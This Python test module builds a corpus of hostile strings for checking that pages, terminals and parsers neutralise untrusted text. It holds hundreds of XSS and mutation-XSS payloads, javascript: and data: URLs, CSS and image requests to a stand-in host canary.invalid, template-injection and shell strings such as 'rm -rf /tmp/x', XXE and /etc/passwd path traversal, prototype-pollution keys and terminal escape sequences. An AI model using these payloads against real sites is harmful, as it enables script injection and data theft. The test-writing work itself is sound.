"""Text that breaks pages, terminals, layouts and parsers where it is not made harmless, by families and contexts.

``CORPUS`` is all of it, ``WORDS`` one of each kind of damage, for tests that make something for every one. Each attack
sets ``window.pwned`` or asks ``canary.invalid`` for something; what a page must not hold is told by ``LIVE``.
``python tests/hostile.py`` prints the corpus as JSON, for the tests in JavaScript.
"""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Iterator

RUN = "window.pwned=1"
HOST = "https://canary.invalid"
_SCRIPT = f"<script>{RUN}</script>"
_IMG = f"<img src=x onerror={RUN}>"
_BASE64 = base64.b64encode(_SCRIPT.encode()).decode()

#: One of each kind of damage: markup, attributes, direction, terminal, length, width, tables, SVG, encoding, objects.
WORDS = (
    _SCRIPT, '<img src=x onerror="alert(1)">', "\"'><b>&amp;", "\u202egnihtemos\u2066", "\x1b[31mred\x1b[0m", "x" * 10_000,
    "🦙" * 500, "| a | `b` | $c$", "]]></svg>", "\ud800", "__proto__", "constructor",
)  # fmt: skip

# --------------------------------------------------------------------------------------------------- families, contexts

#: Elements that run something by themselves, or when they are touched.
_HANDLERS = (
    "img src=x onerror", "img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload", "svg onload", "body onload", "body onpageshow",
    "video src=x onerror", "video><source onerror", "audio src=x onerror", "iframe onload", "object data=x onerror",
    "embed src=x onerror", "details open ontoggle", "input autofocus onfocus", "select autofocus onfocus",
    "textarea autofocus onfocus", "button autofocus onfocus", "a href=# autofocus onfocus", "marquee onstart", "style onload",
    "link rel=stylesheet href=x onerror", "script src=x onerror", "track onerror", "isindex onfocus", "div tabindex=0 autofocus onfocus",
    "p onmouseover", "x onclick", "svg><animate onbegin", "svg><set onbegin", "svg><animate attributeName=x dur=1s onend",
    "svg><image href=x onerror", "math onmouseover", "div style=animation:x onanimationstart", "div onbeforematch hidden=until-found id=a",
    "dialog open onclose", "form onsubmit", "meter onmouseover", "xss contenteditable autofocus onfocusin",
)  # fmt: skip
_SYNTAXES = ("<{0}={1}>", '<{0}="{1}">', "<{0}='{1}'//", "<{0}\n=\t`{1}`\n>", "<{2}={1}>")

#: Addresses that run something or ask a stranger.
_ADDRESSES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"\x01javascript:{RUN}",
    f" javascript:{RUN}", f"&#106;avascript:{RUN}", f"&#x6A;avascript&colon;{RUN}", f"javascript&NewLine;:{RUN}",
    f"javascript://%0a{RUN}", f"vbscript:{RUN}", f"data:text/html,{_SCRIPT}", f"data:text/html;base64,{_BASE64}",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>", f"feed:javascript:{RUN}",
    "//canary.invalid/a", f"{HOST}/a.png", "\\\\canary.invalid\\a", f"{HOST}/' onmouseover='{RUN}", "ws://canary.invalid", "file:///etc/passwd",
)  # fmt: skip
_HOLDERS = (
    '<a href="{}">x</a>', '<iframe src="{}"></iframe>', '<form action="{}"><button>x</button></form>', '<button formaction="{}">',
    '<object data="{}"></object>', '<embed src="{}">', '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>',
    '<svg><use href="{}"/></svg>', '<math href="{}">x</math>', '<map><area href="{}"></map>', '<base href="{}">',
    '<meta http-equiv=refresh content="0;url={}">', '<img src="{}">', "[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[r]\n\n[r]: {}",
    "[![x]({0})]({0})",
)  # fmt: skip

_SCRIPTS = (
    _SCRIPT, f"<SCRIPT>{RUN}</SCRIPT>", f"<script/x>{RUN}</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script\x00>{RUN}</script>",
    f"<script type=module>{RUN}</script>", f"<script\n>{RUN}\n</script\n>", f"</script>{_SCRIPT}", f"<script src={HOST}/x.js></script>",
    f"<<script>{RUN}//<</script>", f"<script>{RUN}", f"<svg><script>{RUN}</script></svg>", f"<svg><script href=data:,{RUN} />",
    f"<math><script>{RUN}</script></math>", f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<iframe srcdoc=\"&lt;img src=x onerror=parent.{RUN}&gt;\">",
    f"<object type=text/html data='data:text/html,{_SCRIPT}'></object>", f"<template><script>{RUN}</script></template>",
    f"<div><template shadowrootmode=open>{_IMG}</template></div>", f"<link rel=import href={HOST}>", f"<link rel=stylesheet href={HOST}/x.css>",
    f"<link rel=prefetch href={HOST}>", f"<link rel=preload as=image href={HOST}>", f"<link rel=icon href={HOST}>", f"<link rel=dns-prefetch href={HOST}>",
    f"<form action={HOST}><input name=q value=secret><button>x</button></form>", f"<video poster={HOST}></video>", f"<body background={HOST}>",
    f"<img srcset='{HOST}/a 1x'>", f"<picture><source srcset={HOST}><img></picture>", f"<input type=image src={HOST}>", f"<table background={HOST}>",
    f"<audio src={HOST} autoplay>", f"<a href=x ping={HOST}>x</a>", f"<svg><image href={HOST} /></svg>", f"<svg><feImage href={HOST} /></svg>",
)  # fmt: skip

#: What parsers and sanitizers of the past took for something else than browsers did.
_MUTATIONS = (
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={RUN}&gt;\">",
    f"<form><math><mtext></form><form><mglyph><style></math>{_IMG}", f"<svg></p><style><a id=\"</style>{_IMG}\">",
    f"<math><mtext><table><mglyph><style><math>{_IMG}", f"<noscript><p title=\"</noscript>{_IMG}\">", f"<noembed><p title='</noembed>{_IMG}'>",
    f"<xmp><p title='</xmp>{_IMG}'>", f"<iframe><p title='</iframe>{_IMG}'>", f"<textarea><p title='</textarea>{_IMG}'>", f"<title><p title='</title>{_IMG}'>",
    f"<style><p title='</style>{_IMG}'>", f"<select><style></select>{_IMG}</style>", f"<svg><style>&lt;img src=x onerror={RUN}&gt;",
    f"<svg><desc><noscript>{_IMG}", f"<svg><foreignObject>{_IMG}", f"<svg><title><style>{_IMG}</style>", f"<math><annotation-xml encoding=text/html>{_IMG}",
    f"<math><mi><table><svg><title><style>{_IMG}", f"<table><td><math><mtext><td><style>{_IMG}", f"<plaintext>{_IMG}", f"<listing>&lt;img onerror={RUN}&gt;</listing>",
    f"<!-->{_IMG}-->", f"<!--!>{_IMG}-->", f"<!-- --!>{_IMG} -->", f"<!--[if gte IE 4]>{_SCRIPT}<![endif]-->", f"<![CDATA[{_SCRIPT}]]>",
    f"<svg><![CDATA[><image href=1 onerror={RUN}>]]></svg>", f"<?xml version='1.0'?>{_SCRIPT}", f"<?x ><img src=x onerror={RUN}>", f"<!DOCTYPE x [<!ENTITY a '{_SCRIPT}'>]><x>&a;</x>",
    "<!DOCTYPE a [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><a>&a;</a>", f"<a title=\"</a>{_IMG}\">", f"<img alt=\"`><img src=x onerror={RUN}>`\">", f"<p id=\"{'x' * 600}\"{_IMG}",
    "<b>" * 600 + _IMG, f"<table><tr><td>{_IMG}</table>{_IMG}", f"<form id=a><form>{_IMG}", f"<ruby><rtc><rt>{_IMG}", f"</br>{_IMG}</p>", f"<image src=x onerror={RUN}>",
)  # fmt: skip

#: What ends the place where a text stands.
_BREAKOUTS = (
    f'">{_IMG}', f"'>{_IMG}", f"`>{_IMG}", f"-->{_IMG}", f"]]>{_IMG}", f"</title>{_IMG}", f"</textarea>{_IMG}", f"</style>{_IMG}", f"</script>{_IMG}", f"</noscript>{_IMG}",
    f"</pre></code>{_IMG}", f"</td></tr></table>{_IMG}", f"</div></div></div></div>{_IMG}", f"</text></svg>{_IMG}", f"</option></select>{_IMG}",
    f'" onmouseover="{RUN}" x="', f"' onmouseover='{RUN}' x='", f'" autofocus tabindex=0 onfocus="{RUN}', f'x" style="background:url({HOST})', f"\\\"><img src=x onerror={RUN}>",
    f"\\';{RUN}//", f'";{RUN}//', f"*/{RUN}/*", f"\n{RUN}\n", f"\u2028{RUN}\u2029", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"&amp;lt;img src=x onerror={RUN}&amp;gt;", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
)  # fmt: skip

_STYLES = (
    f"<style>*{{background:url({HOST})}}</style>", f"<style>@import '{HOST}';</style>", f"<style>@font-face{{font-family:x;src:url({HOST})}}*{{font-family:x}}</style>",
    f"<div style=\"background:url('{HOST}')\">x</div>", f"<div style='width:expression({RUN})'>", f"<div style='-moz-binding:url({HOST})'>", f"<div style='behavior:url({HOST})'>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>", "<style>body{display:none}</style>", f"<p style=\"list-style-image:url('{HOST}')\">",
    f";background:url({HOST})", f"red;}}*{{background:url({HOST})}}", f"url({HOST})", f"var(--x,url({HOST}))", f"<svg><rect fill='url({HOST}#a)'/></svg>",
)  # fmt: skip

_TEMPLATES = (
    f"{{{{constructor.constructor('{RUN}')()}}}}", f"${{{RUN}}}", f"#{{{RUN}}}", f"<%= {RUN} %>", "{% import os %}", "{{name}}", "{0.__class__}", "{}", "%(x)s", "%s%n",
    "%{customdata}", "%{text}<extra></extra>", "<br><b>bold</b><a href='javascript:window.pwned=1'>x</a>", "%{x|%Y}", "$(id)", "`id`", "; rm -rf /tmp/x", "$HOME", "!ls", "%%bash\nid", "%load_ext x",
)  # fmt: skip

_MARKDOWN = (
    f"```{_IMG}\nx\n```", f'```"><img src=x onerror={RUN}>\nx\n```', f"~~~ {_IMG} ~~~\nx\n~~~", f"```\n</code></pre>{_SCRIPT}\n```", f"`</code>{_SCRIPT}`", f"``` `{_IMG}` ```", f"> ```\n> {_SCRIPT}\n\n{_IMG}",
    f"| {_IMG} |\n|---|\n| </td>{_SCRIPT} |", f"# {_IMG}", f"{_IMG}\n===", f"* {_IMG}", f"1. {_IMG}", f"> {_SCRIPT}", f"- [x] {_IMG}", f"**{_IMG}**", f"~~{_IMG}~~", f"    {_SCRIPT}", f"<div>\n\n{_IMG}\n\n</div>",
    f"<pre>\n{_SCRIPT}\n</pre>", f"<!-- a\n\n-->{_IMG}", f"<?php\n{RUN}\n?>{_IMG}", f"<!X\n>{_IMG}", f"<![CDATA[\n]]>{_IMG}", f"</p\n>{_IMG}", f"<a\n{_IMG}>", f"[^1]\n\n[^1]: {_IMG}", f"[x]({HOST} \"{_IMG}\")",
    f'[x]({HOST} "\\" onmouseover={RUN} \\"")', f'![x" onerror="{RUN}]({HOST}/a.png)', f"![]({HOST}/a.png)", f"![x][y]\n\n[y]: {HOST}/a.png", f"\\![x]({HOST}/a.png)", f"!\\[x]({HOST}/a.png)", f"[x]: {HOST} '{_IMG}'\n\n[x]",
    "[" * 300, "*a **b " * 200, ">" * 300, "- " * 200, "`" * 301, "|" * 300 + "\n" + "|-" * 150, "mailto:a@b.c <mailto:a@b.c?subject=x&body=y>", "www.canary.invalid", "\\<script>", f"&lt;<b>{_IMG}",
)  # fmt: skip

#: Names that a page or a language has already.
_NAMES = (
    "__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "__defineGetter__", "then", "length", "undefined", "null", "NaN", "true", "0", "-1", "",
    '{"__proto__":{"pwned":1}}', '{"constructor":{"prototype":{"pwned":1}}}', "constructor.prototype.pwned", "__proto__[pwned]", "__class__", "__init__", "None", "self", "../../../etc/passwd", "C:\\CON", "..\\..\\x", "a/b\x00.gguf",
    "<a id=harness><a id=harness name=send href=x>", "<img name=getElementById>", "<form name=body><input name=parentNode>", "<form id=x><input id=attributes><input name=innerHTML>", "<img id=cookie name=cookie>", "<a id=pwned href=x>", "<iframe name=pwned srcdoc=x>", "<input id=model name=model>",
    "ll-1-0", "view", "jp-main-dock-panel", "main",
)  # fmt: skip

_TERMINAL = (
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", f"\x1b]8;;javascript:{RUN}\x07x\x1b]8;;\x07", f"\x1b]8;;{HOST}\x1b\\x\x1b]8;;\x1b\\", "\x1b]0;title\x07", "\x1b]52;c;cHduZWQ=\x07", "\x1b]1337;File=inline=1:AAAA\x07", "\x1bP$q\x1b\\", "\x1b[6n", "\x1b[?1049h", "\x9b2J", "\x9d0;x\x9c",
    "a\rb", "a\b\b\bc", "\x07", "\x0c", "\x7f", "\x1b(0lqk", "\x1b[38;2;1;2;3m" * 50, f"\x1b[31m{_IMG}\x1b[0m",
)  # fmt: skip

_MATHS = tuple(
    shell.format(inner)
    for inner in (
        f"\\href{{javascript:{RUN}}}{{x}}", f"\\style{{background:url({HOST})}}{{x}}", f"\\class{{x\\' onmouseover=\\'{RUN}}}{{x}}", "\\cssId{view}{x}", f"\\require{{html}}\\href{{{HOST}}}{{x}}", f"\\includegraphics{{{HOST}/a.png}}",
        f"\\text{{{_IMG}}}", f"\\unicode[x' onload='{RUN}]{{x41}}", "\\def\\x{\\x\\x}\\x", f"{_SCRIPT}", f"\\data{{x=\\\"{_IMG}\\\"}}{{y}}",
    )
    for shell in ("${}$", "$${}$$", "\\({}\\)", "\\[{}\\]", "\\begin{{equation}}{}\\end{{equation}}")
)  # fmt: skip

_UNICODE = (
    "\u202egnihtemos\u2066", "\u200b\u200c\u200d\ufeff", "a\u0300" * 300, "🦙" * 500, "👩\u200d👧" * 50, "x" * 10_000, "x " * 3000, "ﷺ" * 200, "\u2028\u2029", "\ud800", "\udfff\ud800", "\ufffe\uffff", "\x00", "\x00<\x00s\x00c\x00r\x00i\x00p\x00t\x00>",
    f"＜script＞{RUN}＜/script＞", f"\u02bascript\u02ba{RUN}", f"\xc0\xbcscript\xc0\xbe{RUN}", f"\xf0<img src=x onerror={RUN}>", f"<\u200bscript>{RUN}</script>", f"<ſcript>{RUN}</ſcript>", f"<İmg src=x onerror={RUN}>", f"<img\u3000src=x\u3000onerror={RUN}>", f"<img\x0bsrc=x\x0conerror={RUN}>",
    "İ" * 100, "ß" * 100, "\u0000\u0001\u0002", "line\nline\n" * 200, "\t" * 200, "a\u2066<b>\u2069", "\U000e0001\U000e0041", "\u202e<script>\u202c",
)  # fmt: skip


def _all() -> Iterator[str]:
    for handler in _HANDLERS:
        for syntax in _SYNTAXES:
            yield syntax.format(handler, RUN, re.sub(r"\bon\w+$", lambda m: m[0].upper(), handler.replace(" ", "/")))
    for holder in _HOLDERS:
        for address in _ADDRESSES:
            yield holder.format(address)
    for family in (
        _SCRIPTS,
        _MUTATIONS,
        _BREAKOUTS,
        _STYLES,
        _TEMPLATES,
        _MARKDOWN,
        _NAMES,
        _TERMINAL,
        _MATHS,
        _UNICODE,
    ):
        yield from family


CORPUS = tuple(dict.fromkeys((*WORDS, *_all())))
#: The same for what carries UTF-8 only: JSON files, arguments of pages.
SAFE = tuple(word.encode("utf-8", "replace").decode() for word in CORPUS)

# ----------------------------------------------------------------------------------------------------------- the canary

#: ``LIVE(selector)``: what under it could run, be sent or be fetched; pictures of ours and links to the web that
#: open apart are not, nor those that JupyterLab makes of pictures in plain text. And whether anything has run.
LIVE = """selector => { const out = [], ours = /^data:image\\/svg\\+xml;base64,|^blob:/;
    const bad = new Set('SCRIPT IFRAME OBJECT EMBED BASE META LINK STYLE FORM MATH VIDEO AUDIO PORTAL FRAME MARQUEE TEMPLATE NOSCRIPT'.split(' '));
    for (const root of document.querySelectorAll(selector)) for (const e of root.querySelectorAll('*')) {
        if (bad.has(e.tagName.toUpperCase()) && !e.closest('.MathJax, mjx-container')) out.push(e.outerHTML.slice(0, 200));
        for (const {name, value} of e.attributes) {
            const link = (e.tagName === 'A' || e.closest('mjx-container')) && name === 'href' && /^(https?:|#|data:image\\/(gif|png|jpeg))/.test(value);
            if (/^on|^srcdoc$|^srcset$|^ping$|^formaction$|^background$|^poster$/.test(name)
                || (/^(src|href|xlink:href|action|data|content)$/.test(name) && !link && !ours.test(value))
                || (name === 'style' && /url\\((?!["']?(data:image|#))|expression\\(/.test(value)))
                out.push(`${e.tagName} ${name}=${value.slice(0, 150)}`); } }
    if (window.pwned !== undefined || ({}).pwned !== undefined) out.push('it ran');
    return out; }"""


if __name__ == "__main__":
    print(json.dumps(SAFE))
